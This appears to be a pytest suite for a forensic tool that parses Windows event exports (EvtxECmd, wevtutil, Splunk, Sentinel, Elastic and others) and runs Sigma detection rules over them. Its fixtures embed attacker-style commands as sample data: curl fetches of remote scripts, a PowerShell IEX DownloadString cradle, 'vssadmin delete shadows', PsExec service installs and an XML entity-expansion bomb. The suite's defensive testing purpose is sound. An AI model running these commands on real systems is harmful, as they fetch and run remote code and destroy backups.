"""Windows events as other tools export them: each read as the event it is."""

from __future__ import annotations

import json
import uuid
from pathlib import Path

import duckdb
import pytest

from tests.evidence import rule, write_rule
from unmask.detect.engines.duckdb import DuckDBEngine
from unmask.detect.sigma.rules import load_rules
from unmask.ingest import ingest
from unmask.ingest.ecs import ecs_row
from unmask.ingest.fields import naive_zone, parse_zone, set_naive_zone
from unmask.ingest.winexport import as_windows

CMD = "whoami /all"
RENDERED = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
    "<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/>"
    "<EventID>4688</EventID><TimeCreated SystemTime='2024-03-05T11:00:00.5000000Z'/>"
    "<Channel>Security</Channel><Computer>WS01.corp.example</Computer></System><EventData>"
    "<Data Name='NewProcessName'>C:\\Windows\\System32\\whoami.exe</Data>"
    f"<Data Name='CommandLine'>{CMD}</Data></EventData></Event>"
)
PAYLOAD = json.dumps(
    {
        "EventData": {
            "Data": [
                {"@Name": "NewProcessName", "#text": "C:\\Windows\\System32\\whoami.exe"},
                {"@Name": "CommandLine", "#text": CMD},
            ]
        }
    }
)


def _write(folder: Path, name: str, text: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")


FORMATS = {
    "evtxecmd.csv": (
        "RecordNumber,EventRecordId,TimeCreated,EventId,Level,Provider,Channel,Computer,Payload\n"
        + '1,1,2024-03-05 11:00:00.5000000,4688,Info,Microsoft-Windows-Security-Auditing,Security,WS01.corp.example,"'
        + PAYLOAD.replace('"', '""')
        + '"\n'
    ),
    "evtxecmd.json": json.dumps(
        {
            "EventId": 4688,
            "Provider": "Microsoft-Windows-Security-Auditing",
            "Channel": "Security",
            "Computer": "WS01.corp.example",
            "TimeCreated": "2024-03-05T11:00:00.5000000+00:00",
            "Payload": PAYLOAD,
        }
    )
    + "\n",
    "wevtutil.xml": f"<?xml version='1.0' encoding='utf-8'?>\n<Events>{RENDERED}</Events>\n",
    "splunk.json": json.dumps(
        {
            "preview": False,
            "offset": 0,
            "result": {"_time": "2024-03-05T11:00:00.500+00:00", "_raw": RENDERED},
        }
    )
    + "\n",
    "velociraptor.json": json.dumps(
        {
            "System": {
                "Provider": {"Name": "Microsoft-Windows-Security-Auditing"},
                "EventID": {"Value": 4688},
                "TimeCreated": {"SystemTime": 1709636400.5},
                "Channel": "Security",
                "Computer": "WS01.corp.example",
            },
            "EventData": {"NewProcessName": "C:\\Windows\\System32\\whoami.exe", "CommandLine": CMD},
        }
    )
    + "\n",
    "sentinel.csv": (
        '"TimeGenerated [UTC]",EventSourceName,Channel,EventID,Computer,EventData\n'
        + '"3/5/2024, 11:00:00.500 AM",Microsoft-Windows-Security-Auditing,Security,4688,WS01.corp.example,"'
        + '<EventData><Data Name=""NewProcessName"">C:\\Windows\\System32\\whoami.exe</Data>'
        + f'<Data Name=""CommandLine"">{CMD}</Data></EventData>"\n'
    ),
    "get-winevent.json": json.dumps(
        [
            {
                "Id": 4688,
                "LogName": "Security",
                "ProviderName": "Microsoft-Windows-Security-Auditing",
                "MachineName": "WS01.corp.example",
                "TimeCreated": "/Date(1709636400500)/",
                "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
                "CommandLine": CMD,
            }
        ]
    ),
    "elasticdump.json": json.dumps(
        {
            "_index": "winlogbeat",
            "_id": "1",
            "_source": {
                "@timestamp": "2024-03-05T11:00:00.500Z",
                "winlog": {
                    "channel": "Security",
                    "event_id": 4688,
                    "computer_name": "WS01.corp.example",
                    "provider_name": "Microsoft-Windows-Security-Auditing",
                    "event_data": {"NewProcessName": "C:\\Windows\\System32\\whoami.exe", "CommandLine": CMD},
                },
            },
        }
    )
    + "\n",
}


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_a_tools_export_is_the_windows_event_it_holds(tmp_path: Path, name: str) -> None:
    evidence = tmp_path / "ev"
    _write(evidence, name, FORMATS[name])
    report = ingest([evidence], tmp_path / "case" / "events", jobs=1)
    assert report.events == {"windows": 1}, (report.events, [str(p) for p in report.problems])
    rel = duckdb.sql(
        f"SELECT * FROM read_parquet('{tmp_path}/case/events/windows/*.parquet', union_by_name=true)"
    )
    [row] = [dict(zip(rel.columns, r, strict=True)) for r in rel.fetchall()]
    assert (row["EventID"], row["Channel"], row["CommandLine"]) == ("4688", "Security", CMD)
    assert row["Provider_Name"] == "Microsoft-Windows-Security-Auditing"
    assert row["_host"] == "WS01.corp.example" and str(row["_ts"]).startswith("2024-03-05T11:00:00.5")
    # And Sigma's process-creation rule on 4688 finds it.
    write_rule(
        tmp_path / "rules",
        "whoami",
        rule(
            "88888888-8888-8888-8888-888888888888",
            "whoami",
            "    product: windows\n    category: process_creation",
            "    sel:\n        Image|endswith: '\\whoami.exe'\n        CommandLine|contains: '/all'\n    condition: sel",
        ),
    )
    with DuckDBEngine(tmp_path / "case" / "events", threads=1) as db:
        assert len(list(db.run(load_rules([tmp_path / "rules"]).rules))) == 1


def test_windows_xml_with_a_dtd_is_refused(tmp_path: Path) -> None:
    evidence = tmp_path / "ev"
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>\n'
        f"<Events>{RENDERED.replace(CMD, '&lol2;')}</Events>"
    )
    _write(
        evidence,
        "bomb.xml",
        bomb.replace("<Events>", "<Events xmlns:x='http://schemas.microsoft.com/win/2004/08/events/event'>"),
    )
    report = ingest([evidence], tmp_path / "case" / "events", jobs=1)
    assert report.events.get("windows", 0) == 0
    assert any("document type declaration" in str(p) or "DTD" in str(p) for p in report.problems)


def test_records_that_only_look_like_windows_events_stay_what_they_are() -> None:
    cloudtrail = {"eventID": "3b2f6c1e-0000-4000-8000-000000000000", "eventSource": "iam.amazonaws.com"}
    assert as_windows(cloudtrail) is None  # an id that is no number
    assert as_windows({"Id": 5, "provider": "aws", "region": "eu-west-1"}) is None
    assert as_windows({"EventCode": "4720", "LogName": "Security", "ComputerName": "DC01"}) is not None


def test_powershell_export_csv_with_its_type_line(tmp_path: Path) -> None:
    evidence = tmp_path / "ev"
    _write(
        evidence,
        "events.csv",
        "#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord\n"
        '"Id","LogName","ProviderName","MachineName","TimeCreated","Message"\n'
        '"4720","Security","Microsoft-Windows-Security-Auditing","DC01","2024-03-05T11:00:00Z","A user account was created."\n',
    )
    report = ingest([evidence], tmp_path / "case" / "events", jobs=1)
    assert report.events == {"windows": 1}
    rel = duckdb.sql(
        f"SELECT * FROM read_parquet('{tmp_path}/case/events/windows/*.parquet', union_by_name=true)"
    )
    [row] = [dict(zip(rel.columns, r, strict=True)) for r in rel.fetchall()]
    assert (row["EventID"], row["Channel"], row["_host"], row["_record"]) == ("4720", "Security", "DC01", "3")


def test_rendered_xml_as_wevtutil_and_powershell_write_it(tmp_path: Path) -> None:
    evidence = tmp_path / "ev"
    evidence.mkdir()
    second = RENDERED.replace("4688", "4689")
    # wevtutil qe /f:xml: events one after another, no root; PowerShell's ">" makes it UTF-16.
    (evidence / "wevtutil.xml").write_text(f"{RENDERED}\r\n{second}\r\n", encoding="utf-8")
    (evidence / "saved.xml").write_bytes(
        f'<?xml version="1.0" encoding="UTF-16"?>\r\n<Events>{RENDERED}{second}</Events>'.encode("utf-16")
    )
    deep = "<a>" * 3000 + "x" + "</a>" * 3000
    (evidence / "deep.xml").write_text(
        f"<Events>{RENDERED.replace('</EventData>', '</EventData><UserData>' + deep + '</UserData>')}"
        f"{second}</Events>"
    )
    report = ingest([evidence], tmp_path / "case" / "events", jobs=1)
    assert report.events == {"windows": 5}  # two + two + the deep file's second event
    assert any("nested too deeply" in str(p) for p in report.problems)


def test_a_broken_event_in_rendered_xml_costs_itself_only(tmp_path: Path) -> None:
    evidence = tmp_path / "ev"
    evidence.mkdir()
    events = [RENDERED.replace("4688", str(4000 + n)) for n in range(6)]
    events[2] = events[2].replace(CMD, "a & b")  # a stray '&': not well formed
    events[5] = events[5][:120]  # the copy was cut
    (evidence / "forwarded.xml").write_text("<Events>" + "\r\n".join(events) + "</Events>", encoding="utf-8")
    report = ingest([evidence], tmp_path / "case" / "events", jobs=1)
    assert report.events == {"windows": 4} and report.skipped == 2
    problems = [str(p) for p in report.problems]
    assert any("event 3: not well formed XML" in p for p in problems)
    assert any("event 6: not well formed XML" in p for p in problems)
    rel = duckdb.sql(
        f"SELECT EventID, _record FROM read_parquet('{tmp_path}/case/events/windows/*.parquet') ORDER BY 2"
    )
    assert rel.fetchall() == [("4000", "1"), ("4001", "2"), ("4003", "4"), ("4004", "5")]


def test_a_payload_cannot_forge_unmasks_columns_and_a_cut_one_is_kept(tmp_path: Path) -> None:
    forged = json.dumps(
        {
            "EventData": {
                "Data": [
                    {"@Name": "ServiceName", "#text": "PSEXESVC"},
                    {"@Name": "_ts", "#text": "2001-09-11"},
                ]
            }
        }
    ).replace('"', '""')
    _write(
        tmp_path / "ev",
        "evtxecmd.csv",
        "EventId,Provider,Channel,Computer,TimeCreated,Payload\n"
        f'7045,Service Control Manager,System,DC01,2024-03-05T11:00:00Z,"{forged}"\n'
        '7045,Service Control Manager,System,DC01,2024-03-05T11:00:01Z,"{""EventData"": {""Data"": [{""@Name"": ""ServiceName"", ""#te"\n',
    )
    ingest([tmp_path / "ev"], tmp_path / "case" / "events", jobs=1)
    rel = duckdb.sql(
        f"SELECT * FROM read_parquet('{tmp_path}/case/events/windows/*.parquet', union_by_name=true)"
    )
    rows = sorted(
        (dict(zip(rel.columns, r, strict=True)) for r in rel.fetchall()), key=lambda r: str(r["_ts"])
    )
    assert rows[0]["_ts"].startswith("2024-03-05T11:00:00") and rows[0]["evidence_ts"] == "2001-09-11"
    assert rows[0]["ServiceName"] == "PSEXESVC"
    assert rows[1]["Payload"].startswith('{"EventData"')  # not JSON: kept as written


def test_a_splunk_csv_of_rendered_events(tmp_path: Path) -> None:
    raw = RENDERED.replace('"', '""')
    _write(
        tmp_path / "ev",
        "splunk.csv",
        '"_time","host","source","sourcetype","EventCode","_raw"\n'
        f'"2024-03-05T11:00:00.500+0000","WS01","XmlWinEventLog:Security","XmlWinEventLog","4688","{raw}"\n',
    )
    report = ingest([tmp_path / "ev"], tmp_path / "case" / "events", jobs=1)
    assert report.events == {"windows": 1}


def test_get_winevent_properties_are_named_by_the_events_template() -> None:
    values = [
        "-", "2024-03-05 11:00:00.500", "{guid}", 4660, "C:\\Windows\\System32\\whoami.exe", "10.0", "whoami",
        "Windows", "Microsoft", "whoami.exe", CMD, "C:\\", "CORP\\alice", "{lg}", "0x1", 1, "High", "SHA256=00",
        "{pg}", 4000, "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "CORP\\alice",
    ]  # fmt: skip
    doc = {
        "Id": 1,
        "LogName": "Microsoft-Windows-Sysmon/Operational",
        "ProviderName": "Microsoft-Windows-Sysmon",
        "Properties": [{"Value": v} for v in values],
    }
    row = as_windows(doc)
    assert row is not None
    assert (row["Image"], row["CommandLine"], row["ParentImage"], row["ParentUser"]) == (
        "C:\\Windows\\System32\\whoami.exe", CMD, "C:\\Windows\\System32\\cmd.exe", "CORP\\alice",
    )  # fmt: skip
    # An older Sysmon has no ParentUser: one value fewer, the rest named alike.
    older = as_windows({**doc, "Properties": doc["Properties"][:-1]})
    assert older is not None and older["ParentImage"] == "C:\\Windows\\System32\\cmd.exe"
    # A length no version of the template has, or values that do not fit it: no names, no wrong ones.
    for properties in (doc["Properties"][:-3], [{"Value": "x"}] * 23):
        odd = as_windows({**doc, "Properties": properties})
        assert odd is not None and "Image" not in odd and "CommandLine" not in odd


def _ecs(os_type: str, executable: str, command: str, **extra: object) -> dict[str, object]:
    return {
        "@timestamp": "2024-03-05T11:00:00.500Z",
        "agent": {"type": "endpoint"},
        "event": {"category": ["process"], "type": ["start"], "dataset": "endpoint.events.process"},
        "host": {"name": "WS01", "os": {"type": os_type}},
        "process": {
            "executable": executable,
            "command_line": command,
            "pid": 4660,
            "parent": {"executable": "C:\\Windows\\System32\\cmd.exe", "pid": 4000},
            "hash": {"sha256": "ab" * 32},
        },
        "user": {"name": "alice", "domain": "CORP"},
        **extra,
    }


def test_elastic_endpoint_events_run_the_rules_of_their_category(tmp_path: Path) -> None:
    evidence = tmp_path / "ev"
    events = [
        _ecs("windows", "C:\\Windows\\System32\\whoami.exe", CMD),
        _ecs("linux", "/usr/bin/curl", "curl http://203.0.113.9/x.sh"),
        # A process that ended is not a creation: kept as it is, and no process rule runs on it.
        {
            **_ecs("windows", "C:\\Windows\\System32\\whoami.exe", CMD),
            "event": {"category": ["process"], "type": ["end"]},
        },
        {
            **_ecs("windows", "C:\\Windows\\System32\\whoami.exe", CMD),
            "event": {"category": ["network"], "type": ["start"]},
            "destination": {"ip": "203.0.113.9", "port": 443},
            "network": {"direction": "egress", "transport": "tcp"},
        },
    ]
    _write(evidence, "defend.ndjson", "\n".join(json.dumps(e) for e in events) + "\n")
    report = ingest([evidence], tmp_path / "case" / "events", jobs=1)
    assert report.events == {"windows": 2, "linux": 1, "generic": 1}
    rel = duckdb.sql(
        f"SELECT * FROM read_parquet('{tmp_path}/case/events/windows/*.parquet', union_by_name=true)"
    )
    rows = {r["_log"]: r for r in (dict(zip(rel.columns, x, strict=True)) for x in rel.fetchall())}
    start = rows["process_creation"]
    assert (start["Image"], start["CommandLine"], start["User"]) == (
        "C:\\Windows\\System32\\whoami.exe",
        CMD,
        "CORP\\alice",
    )
    assert (
        start["ParentImage"] == "C:\\Windows\\System32\\cmd.exe" and start["Hashes"] == "SHA256=" + "AB" * 32
    )
    assert (rows["network_connection"]["DestinationIp"], rows["network_connection"]["Initiated"]) == (
        "203.0.113.9",
        "true",
    )
    assert start["_host"] == "WS01" and str(start["_ts"]).startswith("2024-03-05T11:00:00.5")
    for name, logsource, detection in (
        (
            "win",
            "    product: windows\n    category: process_creation",
            "        Image|endswith: '\\whoami.exe'",
        ),
        ("lin", "    product: linux\n    category: process_creation", "        Image|endswith: '/curl'"),
        ("net", "    product: windows\n    category: network_connection", "        DestinationPort: 443"),
    ):
        write_rule(
            tmp_path / "rules", name,
            rule(str(uuid.uuid5(uuid.NAMESPACE_URL, name)), name, logsource, f"    sel:\n{detection}\n    condition: sel"),
        )  # fmt: skip
    with DuckDBEngine(tmp_path / "case" / "events", threads=1) as db:
        hits = list(db.run(load_rules([tmp_path / "rules"]).rules))
    assert sorted(h.rule.title for h in hits) == ["lin", "net", "win"]


def test_get_winevent_nested_values_hex_ids_and_unnamed_properties() -> None:
    values: list[object] = [
        {"BinaryLength": 12, "AccountDomainSid": None, "Value": "S-1-5-18"}, "WS01$", "CORP", 999, 4660,
        "C:\\Windows\\System32\\whoami.exe", "%%1936", 1234, CMD, "S-1-0-0", "-", "-", 0,
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "S-1-16-16384",
    ]  # fmt: skip
    doc = {
        "Id": 4688,
        "LogName": "Security",
        "ProviderName": "Microsoft-Windows-Security-Auditing",
        "Properties": [{"Value": v} for v in values],
    }
    row = as_windows(doc)
    assert row is not None
    # A SID nested by ConvertTo-Json -Depth 3; logon and process ids as Windows writes them.
    assert (row["SubjectUserSid"], row["SubjectLogonId"], row["NewProcessId"]) == (
        "S-1-5-18",
        "0x3e7",
        "0x1234",
    )
    unnamed = as_windows({**doc, "Properties": doc["Properties"][:14]})
    assert (
        unnamed is not None and "Value" not in unnamed and unnamed["Properties"].startswith("S-1-5-18\nWS01$")
    )


def test_a_column_marked_utc_is_not_read_in_the_local_zone() -> None:
    doc = {
        "TimeGenerated [UTC]": "7/15/2025, 10:00:00.500 AM",
        "EventSourceName": "Microsoft-Windows-Security-Auditing",
        "Channel": "Security",
        "EventID": "4688",
    }
    before = naive_zone()
    set_naive_zone(parse_zone("Europe/Tirane"))
    try:
        sentinel = as_windows(doc)
        local = as_windows({**doc, "TimeCreated": doc["TimeGenerated [UTC]"], "TimeGenerated [UTC]": None})
    finally:
        set_naive_zone(before)
    assert sentinel is not None and str(sentinel["_ts"]).startswith("2025-07-15T10:00:00.5")
    assert local is not None and str(local["_ts"]).startswith("2025-07-15T08:00:00.5")


def test_elastic_events_of_other_shapes() -> None:
    auditbeat = {
        "@timestamp": "2024-03-05T11:00:00Z",
        "event.category": ["process"],
        "event.type": ["start"],
        "host.os.type": "linux",
        "process.executable": "/usr/bin/curl",
        "process.args": ["curl", "-s", "http://198.51.100.23/x"],
    }
    row = ecs_row(auditbeat)  # flattened keys; the command line from its arguments
    assert row is not None and (row["_family"], row["CommandLine"]) == (
        "linux",
        "curl -s http://198.51.100.23/x",
    )
    assert ecs_row({**auditbeat, "host.os.type": "macos"}) is None  # no family of rules for it


_PROCESS_4688 = (
    "A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1001\r\n"
    "\tAccount Name:\t\tbob\r\n\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t0x3E7\r\n\r\nTarget Subject:\r\n"
    "\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\r\nProcess Information:\r\n"
    "\tNew Process ID:\t\t0x1a2c\r\n\tNew Process Name:\tC:\\Windows\\System32\\vssadmin.exe\r\n"
    "\tCreator Process Name:\tC:\\Windows\\System32\\cmd.exe\r\n"
    "\tProcess Command Line:\tvssadmin delete shadows /all /quiet\r\n\r\n"
    "Token Elevation Type indicates the type of token that was assigned to the new process."
)


def test_rendered_messages_give_back_the_fields_sigma_names() -> None:
    from unmask.ingest.winmessage import message_fields

    process = message_fields(_PROCESS_4688, "Microsoft-Windows-Security-Auditing")
    assert process["NewProcessName"].endswith("vssadmin.exe") and process["ParentProcessName"].endswith(
        "cmd.exe"
    )
    assert process["CommandLine"] == "vssadmin delete shadows /all /quiet"
    assert process["SubjectUserName"] == "bob" and process["TargetUserSid"] == "S-1-0-0"
    assert "TargetUserName" not in process  # "-" is no value
    logon = message_fields(
        "An account failed to log on.\n\nSubject:\n\tAccount Name:\t\t-\n\nLogon Type:\t\t\t3\n\n"
        "Account For Which Logon Failed:\n\tAccount Name:\t\tadministrator\n\tAccount Domain:\t\tCORP\n\n"
        "Network Information:\n\tWorkstation Name:\tKALI\n\tSource Network Address:\t203.0.113.9\n"
    )
    assert logon == {
        "LogonType": "3",
        "TargetUserName": "administrator",
        "TargetDomainName": "CORP",
        "WorkstationName": "KALI",
        "IpAddress": "203.0.113.9",
    }
    service = message_fields(
        "A service was installed in the system.\n\nService Name:  PSEXESVC\nService File Name:  %SystemRoot%\\PSEXESVC.exe"
    )
    assert service == {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}
    script = message_fields(
        "Creating Scriptblock text (1 of 1):\nIEX (New-Object Net.WebClient).DownloadString('http://x')\n"
        "Write-Host done\n\nScriptBlock ID: 5b5c\nPath: "
    )
    assert script["ScriptBlockText"].splitlines() == [
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "Write-Host done",
    ]
    sysmon = message_fields(
        "Process Create:\nRuleName: -\nImage: C:\\x.exe\nCommandLine: x /y", "Microsoft-Windows-Sysmon"
    )
    assert sysmon == {"Image": "C:\\x.exe", "CommandLine": "x /y"}


def test_event_viewer_csv_and_get_winevent_csv_are_hunted_by_their_messages(tmp_path: Path) -> None:
    import csv

    evidence = tmp_path / "ev"
    evidence.mkdir()
    with (evidence / "viewer.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Level", "Date and Time", "Source", "Event ID", "Task Category"])
        writer.writerow(
            [
                "Information",
                "3/5/2024 10:00:00 AM",
                "Microsoft-Windows-Security-Auditing",
                "4688",
                "Process Creation",
                _PROCESS_4688,
            ]
        )
    task = (
        "A scheduled task was created.\r\n\r\nTask Information:\r\n\tTask Name: \t\t\\Updater\r\n"
        '\tTask Content: \t\t<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2">\r\n'
        "  <Exec><Command>powershell.exe</Command></Exec>\r\n</Task>\r\n\r\nOther Information:\r\n"
        "\tFQDN: \t\t0"
    )
    with (evidence / "winevent.csv").open("w", newline="") as handle:
        handle.write("#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord\n")
        writer = csv.writer(handle, quoting=csv.QUOTE_ALL)
        writer.writerow(
            [
                "Message",
                "Id",
                "ProviderName",
                "LogName",
                "ProcessId",
                "MachineName",
                "TimeCreated",
                "Properties",
            ]
        )
        writer.writerow(
            [
                "Process Create:\nImage: C:\\Windows\\System32\\vssadmin.exe\nCommandLine: vssadmin delete shadows",
                "1", "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", "3044", "WS02",
                "3/5/2024 10:00:02 AM", "System.Collections.Generic.List`1[EventProperty]",
            ]
        )  # fmt: skip
        # A message with tabs, quotes and line breaks (4698's task XML) is one cell, not rows.
        writer.writerow(
            [
                task,
                "4698",
                "Microsoft-Windows-Security-Auditing",
                "Security",
                "0",
                "WS02",
                "3/5/2024 10:00:03 AM",
                "x",
            ]
        )
    ingest([evidence], tmp_path / "case" / "events", jobs=1)
    rows = duckdb.sql(
        f"SELECT * FROM read_parquet('{tmp_path / 'case' / 'events' / 'windows'}/*.parquet', union_by_name=true)"
    ).fetchall()
    assert len(rows) == 3
    created = duckdb.sql(
        f"SELECT TaskName, TaskContent, _record FROM read_parquet('{tmp_path / 'case' / 'events' / 'windows'}/*.parquet',"
        " union_by_name=true) WHERE EventID = '4698'"
    ).fetchall()
    assert created[0][0] == "\\Updater" and "<Command>powershell.exe</Command>" in created[0][1]
    assert created[0][1].splitlines()[-1] == "</Task>" and created[0][2] == "6"  # its first line
    folder = tmp_path / "rules"
    for name, source, field in (
        ("audit", "    product: windows\n    service: security", "NewProcessName"),
        ("sysmon", "    product: windows\n    category: process_creation", "Image"),
    ):
        write_rule(
            folder,
            name,
            rule(
                str(uuid.uuid4()),
                name,
                source,
                f"    sel:\n        {field}|endswith: '\\\\vssadmin.exe'\n    condition: sel",
            ),
        )
    rules = load_rules([folder])
    with DuckDBEngine(tmp_path / "case" / "events") as engine:
        hits = sorted((hit.rule.title, Path(hit.file).name, hit.ts or "") for hit in engine.run(rules.rules))
    assert hits == [
        ("audit", "viewer.csv", "2024-03-05T10:00:00.000000Z"),
        ("sysmon", "viewer.csv", "2024-03-05T10:00:00.000000Z"),
        ("sysmon", "winevent.csv", "2024-03-05T10:00:02.000000Z"),
    ]
